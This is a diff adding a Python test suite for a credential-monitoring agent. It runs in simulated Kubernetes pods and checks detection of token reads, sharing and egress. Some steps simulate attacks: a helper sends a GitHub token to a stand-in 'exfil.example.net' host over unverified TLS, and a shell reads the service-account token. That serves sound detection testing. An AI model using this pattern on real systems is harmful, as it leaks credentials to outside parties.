@@ -1,0 +1,344 @@
+# SPDX-License-Identifier: GPL-2.0 OR BSD-3-Clause
+"""Workload identity, provenance and the intended-workload policy, with simulated pods.
+
+Each pod is a cgroup v2 hierarchy named the way the kubelet (systemd driver) and containerd
+name theirs, plus the /var/log/pods and /var/log/containers entries the kubelet would make;
+the test's processes move themselves into a pod's cgroup before they exec, so everything the
+agent sees of them carries that cgroup id.
+"""
+import base64
+import json
+import os
+import secrets
+import shutil
+import subprocess
+import tempfile
+import time
+import uuid
+
+from cwtest import BIN, Agent, KeyFile, Skip, github_token, require_root
+from test_tls import TlsServer
+
+NS = "cw-e2e"
+PODS_DIR = "/var/log/pods"
+CONTAINERS_DIR = "/var/log/containers"
+
+
+def cgroup2_root():
+    with open("/proc/mounts") as f:
+        for line in f:
+            fields = line.split()
+            if len(fields) > 2 and fields[2] == "cgroup2":
+                return fields[1]
+    raise Skip("no cgroup v2 hierarchy mounted")
+
+
+class Pod:
+    """A simulated pod with one container: cgroup, pod log directory, container log link."""
+
+    def __init__(self, name, qos="besteffort", container="app"):
+        self.name = f"{name}-{secrets.token_hex(3)}"
+        self.uid = str(uuid.uuid4())
+        self.cid = secrets.token_hex(32)
+        self.container = container
+        root = cgroup2_root()
+        uid_ = self.uid.replace("-", "_")
+        self.qos_dir = os.path.join(root, "kubepods.slice", f"kubepods-{qos}.slice")
+        self.pod_dir = os.path.join(self.qos_dir, f"kubepods-{qos}-pod{uid_}.slice")
+        self.cgroup = os.path.join(self.pod_dir, f"cri-containerd-{self.cid}.scope")
+        os.makedirs(self.cgroup)
+        self.log_dir = os.path.join(PODS_DIR, f"{NS}_{self.name}_{self.uid}")
+        os.makedirs(os.path.join(self.log_dir, container))
+        os.makedirs(CONTAINERS_DIR, exist_ok=True)
+        self.log_link = os.path.join(CONTAINERS_DIR,
+                                     f"{self.name}_{NS}_{container}-{self.cid}.log")
+        os.symlink(os.path.join(self.log_dir, container, "0.log"), self.log_link)
+
+    @property
+    def workload(self):
+        return f"k8s:{NS}/{self.name}"
+
+    def run(self, argv, secret_env=None, secret=None, stdin=None, check=True):
+        """Run argv in this pod. With secret_env, the secret reaches the program's
+        environment through a shell that reads it from stdin: never through an argv or the
+        environment of a process outside the pod."""
+        script = ('echo $$ > "$0/cgroup.procs" || exit 97; '
+                  'if [ -n "$CW_ENVNAME" ]; then IFS= read -r v; export "$CW_ENVNAME=$v"; fi; '
+                  'exec "$@"')
+        env = dict(os.environ)
+        if secret_env:
+            env["CW_ENVNAME"] = secret_env
+            stdin = secret + "\n" + (stdin or "")
+        return subprocess.run(["sh", "-c", script, self.cgroup, *argv], env=env,
+                              input=(stdin or "").encode(), capture_output=True, check=check,
+                              timeout=30)
+
+    def remove(self):
+        # every process has left: the cgroups can go
+        for d in (self.cgroup, self.pod_dir):
+            for _ in range(50):
+                try:
+                    os.rmdir(d)
+                    break
+                except FileNotFoundError:
+                    break
+                except OSError:
+                    time.sleep(0.1)
+        shutil.rmtree(self.log_dir, ignore_errors=True)
+        try:
+            os.unlink(self.log_link)
+        except FileNotFoundError:
+            pass
+
+
+def k8s_jwt(namespace, lifetime=3600):
+    """A Kubernetes service-account token's shape, with a random signature."""
+    def b64(d):
+        return base64.urlsafe_b64encode(d).rstrip(b"=").decode()
+    now = int(time.time())
+    header = {"alg": "RS256", "kid": secrets.token_hex(20)}
+    claims = {"aud": ["https://kubernetes.default.svc"], "exp": now + lifetime, "iat": now,
+              "iss": "https://kubernetes.default.svc.cluster.local",
+              "kubernetes.io": {"namespace": namespace,
+                                "serviceaccount": {"name": "default", "uid": str(uuid.uuid4())}},
+              "nbf": now, "sub": f"system:serviceaccount:{namespace}:default"}
+    return ".".join([b64(json.dumps(header).encode()), b64(json.dumps(claims).encode()),
+                     b64(secrets.token_bytes(256))])
+
+
+def https_client_script():
+    """python3: send the token (read from stdin, or from $GITHUB_TOKEN) in an Authorization
+    header to https://HOST:PORT/ (argv), trusting any certificate; SNI and Host are HOST."""
+    return ("import os,ssl,sys,socket,http.client\n"
+            "host,port=sys.argv[1],int(sys.argv[2])\n"
+            "tok=os.environ.get('GITHUB_TOKEN') or sys.stdin.readline().strip()\n"
+            "ctx=ssl._create_unverified_context()\n"
+            "raw=socket.create_connection(('127.0.0.1',port))\n"
+            "s=ctx.wrap_socket(raw,server_hostname=host)\n"
+            "s.sendall(('GET / HTTP/1.1\\r\\nHost: %s\\r\\nAuthorization: token %s\\r\\n"
+            "Connection: close\\r\\n\\r\\n'%(host,tok)).encode())\n"
+            "s.recv(100)\n"
+            "s.close()\n")
+
+
+class Env:
+    """Three pods, an agent with a private provenance store, and cleanup."""
+
+    def __init__(self):
+        require_root()
+        self.dir = tempfile.mkdtemp(prefix="cw-wl-")
+        self.state = os.path.join(self.dir, "state", "provenance.json")
+        self.key = KeyFile()
+        self.pods = []
+        self.agent = None
+
+    def pod(self, name):
+        p = Pod(name)
+        self.pods.append(p)
+        return p
+
+    def start(self, *args):
+        self.agent = Agent("--state", self.state, *args, key=self.key)
+        return self.agent
+
+    def close(self):
+        if self.agent:
+            self.agent.stop()
+        for p in self.pods:
+            p.remove()
+        shutil.rmtree(self.dir, ignore_errors=True)
+
+
+def own(agent, secret, action):
+    fp = agent.key.fingerprint(secret)
+    return [l for l in agent.lines if l["event"]["action"] == action and
+            l["credential"]["fingerprint"] == fp]
+
+
+def wait_own(agent, secret, action, timeout=15):
+    fp = agent.key.fingerprint(secret)
+    return agent.wait_for(lambda l: l["event"]["action"] == action and
+                          l["credential"]["fingerprint"] == fp, timeout=timeout)
+
+
+def inventory(state):
+    out = subprocess.run([BIN, "inventory", "--state", state, "--format", "json"],
+                         capture_output=True, check=True, timeout=30).stdout.decode()
+    return [json.loads(l) for l in out.splitlines() if l.strip()]
+
+
+def test_pods_ownership_egress_reader_shared_inventory_restart():
+    env = Env()
+    srv = None
+    token = github_token()
+    sa = k8s_jwt(NS)
+    try:
+        a, b, c = env.pod("pod-a"), env.pod("pod-b"), env.pod("pod-c")
+        agent = env.start("--events", "--include-loopback")  # the servers are on loopback
+        srv = TlsServer()
+
+        # Pod A loads the token from a watched file (.env) and from its environment.
+        appdir = os.path.join(env.dir, "app")
+        os.makedirs(appdir)
+        with open(os.path.join(appdir, ".env"), "w") as f:
+            f.write(f"APP_NAME=demo\nGITHUB_TOKEN={token}\n")
+        a.run(["cat", os.path.join(appdir, ".env")])
+        assert wait_own(agent, token, "credential-read"), \
+            "pod A's read of its .env file was not seen: " + agent.stderr()[-2000:]
+        a.run(["true"], secret_env="GITHUB_TOKEN", secret=token)
+        assert wait_own(agent, token, "credential-observed")
+        read = own(agent, token, "credential-read")[0]
+        assert read["orchestrator"]["resource"]["name"] == a.name
+        assert read["orchestrator"]["namespace"] == NS
+        assert read["orchestrator"]["resource"]["id"] == a.uid
+        assert read["container"]["id"] == a.cid
+        assert read["container"]["name"] == "app"
+        assert read["container"]["runtime"] == "containerd"
+        assert read["credwatch"]["qos"] == "besteffort"
+        assert read["file"]["path"] == os.path.join(appdir, ".env")
+
+        # Pod B sends it over TLS: credential-egress naming both pods.
+        b.run(["python3", "-c", https_client_script(), "exfil.example.net", str(srv.port)],
+              stdin=token + "\n")
+        hits = wait_own(agent, token, "credential-egress")
+        assert len(hits) == 1, hits
+        e = hits[0]
+        assert e["event"]["kind"] == "alert"
+        assert e["orchestrator"]["resource"]["name"] == b.name
+        assert e["credwatch"]["workload"] == b.workload
+        assert e["credential"]["origin_workload"] == a.workload
+        assert a.workload in e["credential"]["owners"]
+        assert b.workload not in e["credential"]["owners"]
+        assert e["destination"]["port"] == srv.port
+        assert e["destination"]["domain"] == "exfil.example.net"
+        assert e["tls"]["library"] == "openssl"
+        assert e["threat"]["technique"]["id"] == "NHI-02"
+
+        # Pod A sends it to its provider's host: no alert of any kind for pod A.
+        a.run(["python3", "-c", https_client_script(), "api.github.com", str(srv.port)],
+              secret_env="GITHUB_TOKEN", secret=token)
+        sent = wait_own(agent, token, "credential-sent")
+        assert any(l["credwatch"].get("workload") == a.workload for l in sent), sent
+
+        # A shell in pod A cats the service-account token: credential-unexpected-reader.
+        script = ("mount -t tmpfs cw /run && "
+                  "mkdir -p /run/secrets/kubernetes.io/serviceaccount && "
+                  "cat > /run/secrets/kubernetes.io/serviceaccount/token && "
+                  "cat /var/run/secrets/kubernetes.io/serviceaccount/token >/dev/null")
+        a.run(["unshare", "-m", "sh", "-c", script], stdin=sa)
+        hits = wait_own(agent, sa, "credential-unexpected-reader")
+        assert len(hits) == 1, hits
+        r = hits[0]
+        assert r["process"]["name"] == "cat"
+        assert r["orchestrator"]["resource"]["name"] == a.name
+        assert r["file"]["path"] == "/var/run/secrets/kubernetes.io/serviceaccount/token"
+        assert r["credential"]["kind"] == "kubernetes-service-account-token"
+
+        # The same token loaded in pod C: credential-shared.
+        c.run(["true"], secret_env="GITHUB_TOKEN", secret=token)
+        hits = wait_own(agent, token, "credential-shared")
+        assert len(hits) == 1, hits
+        assert hits[0]["credwatch"]["workload"] == c.workload
+        assert set(hits[0]["credential"]["loaded_by"]) >= {a.workload, c.workload}
+        assert hits[0]["threat"]["technique"]["id"] == "NHI-09"
+
+        time.sleep(1.5)  # anything further would be a duplicate or a false alarm
+        assert not [l for l in own(agent, token, "credential-egress")
+                    if l["credwatch"]["workload"] != b.workload], "an owner was flagged"
+        assert not [l for l in own(agent, token, "credential-unexpected-destination")
+                    if l["credwatch"]["workload"] == a.workload], \
+            "the provider's own host was flagged"
+        assert len(own(agent, token, "credential-egress")) == 1
+        assert agent.stop() == 0
+        agent.assert_no_plaintext(token, sa)
+
+        # The inventory lists it: where it lives, who loaded it, who used it.
+        inv = inventory(env.state)
+        fp = env.key.fingerprint(token)
+        mine = [i for i in inv if i["credential"]["fingerprint"] == fp]
+        assert len(mine) == 1, inv
+        item = mine[0]
+        loaders = set(item["loaders"])
+        assert {a.workload, c.workload} <= loaders and b.workload not in loaders
+        srcs = {(o["source"], o["detail"]) for o in item["origins"]}
+        assert ("file", os.path.join(appdir, ".env")) in srcs
+        assert ("env", "GITHUB_TOKEN") in srcs
+        users = {u["workload"] for u in item["users"]}
+        assert {a.workload, b.workload} <= users
+        st = os.stat(env.state)
+        assert st.st_mode & 0o777 == 0o600
+        with open(env.state, "rb") as f:
+            blob = f.read()
+        assert token.encode() not in blob and sa.encode() not in blob
+        table = subprocess.run([BIN, "inventory", "--state", env.state], capture_output=True,
+                               check=True, timeout=30).stdout
+        assert fp[:16].encode() in table and token.encode() not in table
+
+        # A restarted agent keeps the provenance: pod B sending it again is still flagged.
+        agent = env.start("--include-loopback")
+        assert "provenance " + env.state + " (" in agent.stderr()
+        b.run(["python3", "-c", https_client_script(), "exfil.example.net", str(srv.port)],
+              stdin=token + "\n")
+        hits = wait_own(agent, token, "credential-egress")
+        assert len(hits) == 1, agent.stderr()[-2000:]
+        assert hits[0]["credential"]["origin_workload"] == a.workload
+        agent.assert_no_plaintext(token, sa)
+    finally:
+        if srv:
+            srv.close()
+        env.close()
+
+
+def test_policy_reload_keeps_previous_on_error():
+    require_root()
+    env = Env()
+    try:
+        pol = os.path.join(env.dir, "policy.yaml")
+        with open(pol, "w") as f:
+            f.write("watch:\n  - '**/cw-e2e-watched.txt'\n")
+        agent = env.start("--policy", pol, "--events")
+        token = github_token()
+        data = os.path.join(env.dir, "cw-e2e-watched.txt")
+        with open(data, "w") as f:
+            f.write(f"token: {token}\n")
+        subprocess.run(["cat", data], capture_output=True, check=True)
+        assert wait_own(agent, token, "credential-read"), agent.stderr()[-2000:]
+        # a broken policy: named with file, line and field; the old one stays in force
+        with open(pol, "w") as f:
+            f.write("watch:\n  - '**/cw-e2e-watched.txt'\nworkloads:\n  - nmae: x\n")
+        agent.proc.send_signal(1)
+        assert agent.wait_err("policy reload failed, keeping the previous policy", 10)
+        assert f"{pol}:4" in agent.stderr(), agent.stderr()
+        token2 = github_token()
+        with open(data, "w") as f:
+            f.write(f"token: {token2}\n")
+        subprocess.run(["cat", data], capture_output=True, check=True)
+        assert wait_own(agent, token2, "credential-read"), "the previous policy was lost"
+        assert agent.alive()
+        agent.stop()
+        agent.assert_no_plaintext(token, token2)
+    finally:
+        env.close()
+
+
+def test_untracked_reads_not_captured_and_write_only_ignored():
+    """A file that is not watched is never captured; a watched file opened for writing only
+    is forgotten at once."""
+    require_root()
+    env = Env()
+    try:
+        agent = env.start("--events", "-v")
+        token = github_token()
+        plain = os.path.join(env.dir, "notes.txt")
+        with open(plain, "w") as f:
+            f.write(f"GITHUB_TOKEN={token}\n")
+        subprocess.run(["cat", plain], capture_output=True, check=True)
+        watched = os.path.join(env.dir, ".env")
+        with open(watched, "w") as f:   # a write-only open of a watched name
+            f.write(f"GITHUB_TOKEN={token}\n")
+        time.sleep(1.0)
+        assert not own(agent, token, "credential-read")
+        agent.stop()
+        assert "watched file opens" in agent.stderr()
+    finally:
+        env.close()
